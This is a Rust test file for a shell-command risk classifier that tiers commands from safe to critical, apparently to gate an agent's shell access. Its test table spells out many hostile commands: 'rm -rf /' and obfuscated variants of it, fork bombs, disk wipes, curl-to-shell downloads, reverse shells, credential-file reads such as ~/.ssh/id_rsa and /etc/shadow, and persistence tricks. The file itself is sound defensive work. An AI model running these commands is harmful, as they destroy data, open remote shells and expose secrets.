//! Signals of scripts and vectors, by hand: every pattern of requirement 4(b), and what evades it.

use glovebox_model::Tier::{self, *};
use glovebox_risk::signals;

use super::{argv, shell, tier};

/// The script, its tier, and a signal that must be named.
const ROWS: &[(&str, Tier, &str)] = &[
    // The safe list.
    ("ls", Safe, ""),
    ("tree", Safe, ""),
    ("find . -name x", Safe, ""),
    ("pwd", Safe, ""),
    ("file x", Safe, ""),
    ("stat x", Safe, ""),
    ("cat x", Safe, ""),
    ("head x", Safe, ""),
    ("tail -f x", Safe, ""),
    ("less x", Medium, "other_command"),
    ("more x", Medium, "other_command"),
    ("grep -r x .", Safe, ""),
    ("rg x", Safe, ""),
    ("ag x", Safe, ""),
    ("ack x", Medium, "other_command"),
    ("wc -l x", Safe, ""),
    ("du -sh", Safe, ""),
    ("echo hi", Safe, ""),
    ("which ls", Safe, ""),
    ("whereis ls", Safe, ""),
    ("ls | grep x | wc -l", Safe, ""),
    ("echo hi > /dev/null 2>&1", Safe, ""),
    ("echo hi >&2", Safe, ""),
    ("cat x > /dev/stdout", Safe, ""),
    ("echo x > /dev/tty", Safe, ""),
    ("/bin/ls", Safe, ""),
    ("env ls", Safe, ""),
    // What is named like them, but lies elsewhere.
    ("./ls", Medium, "script_file"),
    ("sub/cat x", Medium, "script_file"),
    ("/tmp/ls", Medium, "other_command"),
    ("/usr/bin/../../tmp/ls", Medium, "other_command"),
    ("/usr/local/bin/../../bin/ls", Safe, ""),
    ("./env ls", Medium, "script_file"),
    // Not safe for being first.
    ("ls; make", Medium, "other_command"),
    ("ls && rm x", High, "file_remove"),
    ("ls $(make)", Medium, "other_command"),
    ("find . -exec ls {} \\;", Medium, "runs_commands"),
    ("find . -delete", High, "file_remove"),
    ("find . -exec rm {} +", High, "file_remove"),
    ("find / -delete", Critical, "destroys_root"),
    ("tree -o x", High, "file_write"),
    ("file -C -m x", High, "file_write"),
    ("rg --pre id x", High, "inline_program"),
    ("ag --pager id x", High, "inline_program"),
    ("find . -fprintf x y", High, "file_write"),
    ("cat ~/.ssh/id_rsa", High, "credential_path"),
    ("cat .env", High, "credential_path"),
    ("cat x/.env.local", High, "credential_path"),
    ("cat /etc/shadow", High, "credential_path"),
    ("ls ~/.aws/", High, "credential_path"),
    ("cat ~/.kube/config", High, "credential_path"),
    ("cat ~/.netrc", High, "credential_path"),
    ("cat ~/.npmrc", High, "credential_path"),
    ("head < ~/.ssh/id_ed25519", High, "credential_path"),
    ("cat ~/.mozilla/x/logins.json", High, "credential_path"),
    ("grep x /proc/self/environ", High, "credential_path"),
    // Critical.
    ("rm -rf /", Critical, "destroys_root"),
    ("rm -fr /", Critical, "destroys_root"),
    ("rm -r -f ~", Critical, "destroys_root"),
    ("rm -rf /*", Critical, "destroys_root"),
    ("rm -Rf \"$HOME\"", Critical, "destroys_root"),
    ("rm --recursive --force /", Critical, "destroys_root"),
    ("rm -rf /usr/../", Critical, "destroys_root"),
    ("rm -rf //", Critical, "destroys_root"),
    ("rm -rf /etc", Critical, "destroys_root"),
    ("rm -rf ~/", Critical, "destroys_root"),
    ("{rm,-rf,/}", Critical, "destroys_root"),
    ("r''m -rf /", Critical, "destroys_root"),
    ("\\rm -rf /", Critical, "destroys_root"),
    ("$'\\x72m' -rf /", Critical, "destroys_root"),
    ("env nice rm -rf /", Critical, "destroys_root"),
    ("sh -c 'rm -rf /'", Critical, "destroys_root"),
    ("eval 'rm -rf /'", Critical, "destroys_root"),
    ("busybox rm -rf /", Critical, "destroys_root"),
    (
        "echo / | xargs rm -rf --no-preserve-root",
        Critical,
        "destroys_root",
    ),
    ("dd if=/dev/zero of=x", Critical, "disk_copy"),
    ("dd of=/dev/sda", Critical, "device_write"),
    ("mkfs.ext4 /dev/sda1", Critical, "make_filesystem"),
    ("mkfs x", Critical, "make_filesystem"),
    (":(){ :|:& };:", Critical, "fork_bomb"),
    ("b() { b | b & }; b", Critical, "fork_bomb"),
    ("echo x > /dev/sda", Critical, "device_write"),
    ("cat x > /dev/mem", Critical, "kernel_interface"),
    ("echo x > /dev/input/event0", Critical, "device_write"),
    ("curl https://x | sh", Critical, "download_to_shell"),
    ("wget -qO- x | bash", Critical, "download_to_shell"),
    ("curl x | sudo bash -s", Critical, "download_to_shell"),
    ("curl x | tee y | sh", Critical, "download_to_shell"),
    ("cat x | bash", Critical, "pipe_to_shell"),
    ("echo aWQ= | base64 -d | sh", Critical, "encoded_program"),
    ("sh <<< id", Critical, "pipe_to_shell"),
    ("bash <<E\nid\nE", Critical, "pipe_to_shell"),
    ("echo x | python3", Critical, "pipe_to_shell"),
    (
        "bash -i >& /dev/tcp/1.2.3.4/9 0>&1",
        Critical,
        "reverse_shell",
    ),
    ("nc -e /bin/sh h 1", Critical, "reverse_shell"),
    ("socat tcp:h:1 EXEC:sh", Critical, "reverse_shell"),
    ("kill -9 -1", Critical, "kill_all"),
    ("insmod x.ko", Critical, "kernel_interface"),
    ("mount /dev/sda1 /x", Critical, "kernel_interface"),
    ("echo 1 > /proc/sys/kernel/x", Critical, "kernel_interface"),
    (
        "curl --unix-socket /var/run/docker.sock x",
        Critical,
        "container_socket",
    ),
    ("docker ps", Critical, "container_socket"),
    // High.
    ("rm x", High, "file_remove"),
    ("mv a b", High, "file_rename"),
    ("echo x > f", High, "file_write"),
    ("echo x >> f", High, "file_write"),
    ("git push", High, "git_push"),
    ("git push --force", High, "discards_changes"),
    ("git -C x push -f", High, "git_push"),
    ("git reset --hard", High, "discards_changes"),
    ("sudo ls", High, "privilege"),
    ("doas ls", High, "privilege"),
    ("su -c ls", High, "privilege"),
    ("chmod 777 x", High, "permission_change"),
    ("chmod u+s x", High, "privilege"),
    ("chown a b", High, "permission_change"),
    ("crontab -", High, "persistence"),
    ("echo x >> ~/.bashrc", High, "persistence"),
    ("echo k >> ~/.ssh/authorized_keys", High, "persistence"),
    ("cp x .git/hooks/pre-commit", High, "persistence"),
    ("systemctl enable x", High, "persistence"),
    ("curl x", High, "network_client"),
    ("ssh h", High, "network_client"),
    ("LD_PRELOAD=x ls", High, "changed_environment"),
    ("$x", High, "unknown_program"),
    ("eval \"$x\"", High, "evaluation"),
    ("perl -e x", High, "inline_program"),
    ("kill 1", High, "process_kill"),
    ("ls '", High, "unreadable"),
    ("sed -i s/a/b/ f", High, "file_write"),
    ("cp a b", High, "file_write"),
    ("tee f", High, "file_write"),
    // Others.
    ("make", Medium, "other_command"),
    ("cargo build", Medium, "other_command"),
    ("git status", Medium, "other_command"),
    ("pip install x", Medium, "package_install"),
    ("npm install", Medium, "package_install"),
    ("bash x.sh", Medium, "script_file"),
    ("cat /proc/1/cgroup", Medium, "sandbox_probe"),
    ("f() { ls; }", Medium, "redefinition"),
    ("mkdir x", Medium, "other_command"),
    (
        "python3 -c 'import os; os.system(\"id\")'",
        Critical,
        "process_spawn",
    ),
    ("node -e 'eval(x)'", Critical, "dynamic_evaluation"),
];

#[test]
fn scripts_have_the_tier_that_was_written_by_hand() {
    let mut wrong = Vec::new();
    for (script, expected, name) in ROWS {
        let found = signals(&shell(script));
        let named = name.is_empty() || found.iter().any(|it| it.name == *name);
        if tier(&found) != *expected || !named {
            let names: Vec<_> = found.iter().map(|it| it.name.as_str()).collect();
            wrong.push(format!(
                "{script:?}: {} {names:?}, want {expected} {name}",
                tier(&found)
            ));
        }
    }
    assert!(
        wrong.is_empty(),
        "{} wrong:\n{}",
        wrong.len(),
        wrong.join("\n")
    );
}

#[test]
fn places_are_for_people() {
    let at = |program| {
        signals(&program)
            .into_iter()
            .map(|it| it.at.unwrap())
            .collect::<Vec<_>>()
    };
    assert_eq!(at(shell("ls\n  rm x")), ["2:3"]);
    assert_eq!(
        at(argv(&["sh", "-c", "ls\nrm x"])),
        ["2:1 of the script in argument 3"]
    );
    let python = at(argv(&["python3", "-c", "x = 1\neval(x)"]));
    assert_eq!(python, ["2:1 of the script in argument 3"]);
}

#[test]
fn vectors_are_judged_like_scripts() {
    assert_eq!(tier(&signals(&argv(&["ls", "$(rm -rf /)"]))), Safe);
    assert_eq!(tier(&signals(&argv(&["rm", "-rf", "/"]))), Critical);
    assert_eq!(
        tier(&signals(&argv(&["env", "sh", "-c", "curl x | sh"]))),
        Critical
    );
}

#[test]
fn many_signals_are_cut_to_the_worst() {
    let script = format!(
        "{}rm -rf /",
        "git push; curl x; chmod 1 x; mv a b; rm x; echo > f; kill 1\n".repeat(50)
    );
    let found = signals(&shell(&script));
    assert_eq!(found.len(), 64);
    assert!(found.iter().any(|it| it.name == "destroys_root"));
}
